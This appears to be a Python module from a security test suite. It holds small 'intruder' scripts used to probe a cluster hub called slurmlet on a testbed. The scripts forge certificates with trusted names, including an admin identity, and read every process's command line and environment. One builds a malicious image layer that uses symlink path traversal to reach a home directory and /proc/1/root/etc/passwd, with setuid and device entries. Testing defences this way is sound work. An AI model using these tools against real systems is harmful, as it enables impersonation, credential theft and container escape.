"""The intruder's tools: small programs that run on a host of the testbed as whoever is told.

Arguments come in sys.argv, never in the text. They use the standard library (FORGE: cryptography), as anybody could.
"""

from __future__ import annotations

# port, [certificate, key]: what a plain and a TLS request to / get. "refused": no answer to the request.
KNOCK = """
import http.client, socket, ssl, sys
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
def answer(connection):
    try:
        connection.request("GET", path)
        return str(connection.getresponse().status)
    except (OSError, http.client.HTTPException) as error:
        return "refused"
print("plain", answer(http.client.HTTPConnection(host, port, timeout=5)))
context = ssl._create_unverified_context()
print("anonymous", answer(http.client.HTTPSConnection(host, port, context=context, timeout=5)))
for pair in sys.argv[4:]:
    context = ssl._create_unverified_context()
    context.load_cert_chain(*pair.split(","))
    print(pair, answer(http.client.HTTPSConnection(host, port, context=context, timeout=5)))
"""

# host, port, PEM file, hello: the kind of the first message the hub sends back, or "refused".
HELLO = """
import json, socket, ssl, struct, sys
context = ssl._create_unverified_context()
context.load_cert_chain(sys.argv[3])
try:
    tls = context.wrap_socket(socket.create_connection((sys.argv[1], int(sys.argv[2])), 5))
    hello = sys.argv[4].encode()
    tls.sendall(struct.pack("!IBI", len(hello), 0, 0) + hello)
    header = b""
    while len(header) < 9:
        part = tls.recv(9 - len(header))
        if not part:
            raise OSError("closed")
        header += part
    left, text = struct.unpack("!IBI", header)[0], b""
    while len(text) < left:
        text += tls.recv(left - len(text))
    print(json.loads(text)["type"])
except OSError:
    print("refused")
"""

# directory: a key and certificates with the names user1's hub trusts, signed by an authority of the caller's own.
FORGE = """
import datetime, sys
from pathlib import Path
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
out, now = Path(sys.argv[1]), datetime.datetime.now(datetime.UTC)
out.mkdir(mode=0o700, exist_ok=True)
def name(text, org=None):
    parts = [x509.NameAttribute(x509.NameOID.COMMON_NAME, text)]
    return x509.Name(parts + ([x509.NameAttribute(x509.NameOID.ORGANIZATION_NAME, org)] if org else []))
for number, (issuer, subject, org) in enumerate([("slurmlet hub-ca", "slurmlet:kubelet-client", None),
        ("slurmlet hub-ca", "slurmlet:pod:" + sys.argv[2], None), ("slurmlet ca", "slurmlet:admin", "system:masters"),
        ("slurmlet etcd-ca", "kube-apiserver", None)]):
    signer, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())
    made = (x509.CertificateBuilder().subject_name(name(subject, org)).issuer_name(name(issuer))
        .public_key(key.public_key()).serial_number(7).not_valid_before(now - datetime.timedelta(1))
        .not_valid_after(now + datetime.timedelta(9)).sign(signer, hashes.SHA256()))
    text = made.public_bytes(serialization.Encoding.PEM) + key.private_bytes(serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    (out / f"{number}.pem").write_bytes(text)
"""

# All a stranger can read about others' processes.
LOOK_AROUND = """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    try:
        print(open(path, "rb").read().decode(errors="replace").replace("\\0", " "))
    except OSError:
        pass
"""

# root: "mode uid path" of everything below.
MODES = """
import os, sys
for where, folders, files in os.walk(sys.argv[1]):
    for path in [where] + [os.path.join(where, name) for name in files]:
        seen = os.lstat(path)
        print(oct(seen.st_mode & 0o777), seen.st_uid, path)
"""

# file, marker: an image layer whose links lead out of it, and entries that go through those links.
LAYER = """
import io, sys, tarfile
marker = sys.argv[2]
with tarfile.open(sys.argv[1], "w") as tar:
    def add(name, kind, target="", data=b""):
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname, entry.size, entry.mode = kind, target, len(data), 0o6777
        tar.addfile(entry, io.BytesIO(data))
    add("etc/hosts", tarfile.SYMTYPE, f"/home/user1/{marker}-hosts")
    add("etc/resolv.conf", tarfile.SYMTYPE, f"../../../../../../../../home/user1/{marker}-resolv")
    add("data", tarfile.SYMTYPE, "/home/user1")
    add("up", tarfile.SYMTYPE, "../../../../../../../../home/user1")
    add(f"up/{marker}-through-link", tarfile.REGTYPE, data=b"x")
    add(f"data/{marker}-through-link", tarfile.REGTYPE, data=b"x")
    add("passwd-link", tarfile.SYMTYPE, "/proc/1/root/etc/passwd")
    add("disk", tarfile.BLKTYPE)
    add("setuid", tarfile.REGTYPE, data=b"#!/bin/sh")
"""
